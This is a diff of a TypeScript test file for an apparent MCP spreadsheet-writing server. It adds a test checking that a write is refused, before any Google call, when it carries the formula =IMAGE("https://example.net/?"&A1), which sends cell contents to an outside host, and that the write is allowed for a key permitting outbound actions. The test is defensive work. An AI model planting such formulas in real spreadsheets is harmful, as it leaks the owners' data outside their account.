@@ -93,7 +93,9 @@ const write = (client: Client, name: string, range: string, value: string) =>
   }) as Promise<Result>;
 
 beforeAll(async () => {
-  stack = await startMcpUnderTest();
+  // The owners kept an hour, set here (the other stacks keep none): a burst's later write finds
+  // them kept however slowly this file runs, and each file below is read once at most.
+  stack = await startMcpUnderTest({ SPREADSHEET_OWNERS_KEPT_SECONDS: '3600' });
   for (const email of ['alice@example.com', 'bob@example.com', 'erin@gmail.com']) {
     const person = await stack.signIn(email);
     people[email] = {
@@ -117,6 +119,7 @@ beforeAll(async () => {
   await seed('erin@gmail.com', [
     { name: 'Erin fill in', values: [['erin']], permissions: forAlice },
     { name: 'Erin asks', values: [['erin']], permissions: forAlice },
+    { name: 'Erin formulas', values: [['erin']], permissions: forAlice },
   ]);
   // Alice's key may act outbound: her choice, set on the key as the dashboard sets it.
   const key = await stack.createApiKey(people['alice@example.com']!.sessionCookie);
@@ -203,6 +206,34 @@ describe('a write into a spreadsheet', () => {
     })) as Result;
     expect(dry.isError).toBe(true);
     expect(dry.content[0]!.text).toContain('owned by erin@gmail.com (shared with you)');
+  });
+
+  it('a fetch formula into it: refused on the formula alone before Google is asked anything; allowed, its owners are read', async () => {
+    const formula = (client: Client) =>
+      client.callTool({
+        name: 'write_range',
+        arguments: {
+          spreadsheetId: files['Erin formulas'],
+          range: 'B1',
+          values: [['=IMAGE("https://example.net/?"&A1)']],
+        },
+      }) as Promise<Result>;
+    let before = await methods();
+    const refused = await formula(people['alice@example.com']!.client);
+    expect(refused.isError).toBe(true);
+    expect(refused.content[0]!.text).toMatch(
+      /^Nothing was sent to Google: IMAGE makes Google fetch from example\.net, sending what the URL holds \(cells included\) each time the sheet is computed\. This app may not share or send outside your account;/,
+    );
+    // The owners read could only have added to the refusal: not made.
+    expect(since(before, await methods())).toEqual({});
+    before = await methods();
+    const written = await formula(allowed);
+    expect(written.isError, written.content[0]?.text).toBeFalsy();
+    // Its owners read once, beside the write's own reads and the write.
+    expect(since(before, await methods())).toMatchObject({
+      'drive.files.get': 1,
+      'sheets.spreadsheets.values.update': 1,
+    });
   });
 
   it('a Workspace person’s, written by a personal account it is shared with: outside, refused', async () => {
